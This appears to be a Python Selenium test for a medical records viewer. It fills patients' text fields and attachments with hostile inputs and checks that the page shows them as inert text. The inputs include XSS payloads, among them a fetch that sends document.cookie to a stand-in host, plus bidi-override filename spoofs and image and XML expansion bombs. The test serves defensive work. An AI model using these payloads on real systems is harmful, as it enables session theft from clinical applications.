"""records that want to be more than text are text or refused: nothing runs, nothing is asked elsewhere, the page stays readable"""

import struct
import urllib.parse
import zlib

import custodian
from browser import require
from selenium.webdriver.common.by import By
from viewer import clinician, confirm, find, sound

RUN = "window.owned=1;fetch('https://elsewhere.example/'+document.cookie)"
WORDS = [f"<script>{RUN}</script>", f"\"><img src=x onerror=\"{RUN}\">", f"'><svg onload='{RUN}'>", "</title></style><h1>乗っ取り</h1>",
         "javascript:window.owned=1", "\u202egnp.exe \u2066隠す\u2069 \u200f", "<a href=\"https://elsewhere.example/\">押す</a>",
         "&lt;script&gt;window.owned=1&lt;/script&gt;", "]]><!--", "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
         "長" * 3000]
# What a person writes; codes, numbers and references stay, so that the records are read at all.
WRITTEN = {"text", "display", "valueString", "conclusion", "patientInstruction", "family", "title", "description", "unit"}
RESULTS = 400


def png(width, height):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(bytes(1 << 20))) + chunk(b"IEND", b""))


ATTACHMENTS = [
    ("text/html", f"<html><body onload=\"{RUN}\"><script>{RUN}</script><h1>診療情報</h1><p>読める</p></body></html>".encode()),
    ("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>".encode()),
    ("image/png", png(60000, 60000)),
    ("image/jpeg", b"\xff\xd8\xff\xe0GIF89a<script>window.owned=1</script>"),
    ("text/plain", b"\xff\xfe\x00<script>window.owned=1</script>\xed\xa0\x80"),
    ("application/xml", b"<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><x>&b;</x>"),
]


def check(net):
    net.register()
    person = net.people[0]
    net.agree(person, "c-101")
    net.link(person)
    swap(net, person)
    with clinician(net) as page:
        find(page, person)
        calm(page)
        confirm(page)
        timeline = page.current_url
        require(page.find_elements(By.CSS_SELECTOR, "table.timeline"), f"no timeline: {page.text()[:300]}")
        require("<script>" in page.text(), "hostile words are not shown as text")
        require("gnp.exe" in page.page_source, "a name with an override is missing")
        require(not set("\u202e\u2066\u2069\u200f") & set(page.page_source), "a direction is overridden")
        calm(page)
        addresses = {link.get_attribute("href") for link in page.find_elements(By.CSS_SELECTOR, "td.title a, .digest a")}
        for address in sorted(addresses)[:14]:
            page.get(address)
            calm(page, mayRefuse=True)
        for path in ("/laboratory", "/laboratory?group=measurement", "/medication", "?kind=document",
                     "?page=1", "?page=99999&kind=<script>"):
            page.get(timeline + path)
            calm(page)


def calm(page, mayRefuse=False):
    """Nothing ran, nothing was asked of anybody else, and the page is one that keeps the rules."""
    require(page.execute_script("return typeof window.owned") == "undefined", f"something ran in {page.current_url}")
    origin = "{0.scheme}://{0.netloc}".format(urllib.parse.urlsplit(page.current_url))
    asked = page.execute_script("return performance.getEntriesByType('resource').map(e => e.name)")
    require(all(name.startswith(origin + "/") for name in asked), f"asked elsewhere: {asked}")
    require(len(page.find_elements(By.TAG_NAME, "h1")) == 1, f"{page.current_url} has another heading")
    require(page.execute_script("return document.scripts.length") <= 1, "another script")
    if mayRefuse:
        said = [line for line in page.complaints() if "Content Security" in line or "Refused" in line]
        require(said == [], f"the policy had to step in: {said}")
        require(page.axe() == [], f"axe finds wrong with {page.current_url}: {page.axe()}")
    else:
        sound(page)


def swap(net, person):
    """Has the custodian hold the same records with hostile words in them, from now on."""
    held = custodian.records(net, person)
    held["DocumentReference"] = [custodian.attached(resource, *ATTACHMENTS[number % len(ATTACHMENTS)])
                                 for number, resource in enumerate(held["DocumentReference"])]
    results = held["Observation"]
    held["Observation"] = results + [{**results[n % len(results)], "id": f"more-{n}"} for n in range(RESULTS)]
    words = Words()
    custodian.hold(net, {type_: [words.into(resource) for resource in resources] for type_, resources in held.items()})


class Words:
    """Puts a hostile word wherever a person writes one, each in its turn."""

    def __init__(self):
        self.count = 0

    def into(self, value, name=None):
        if isinstance(value, dict):
            return {key: self.into(inner, key) for key, inner in value.items()}
        if isinstance(value, list):
            return [self.into(inner, name) for inner in value]
        if isinstance(value, str) and name in WRITTEN:
            self.count += 1
            return WORDS[self.count % len(WORDS)]
        return value
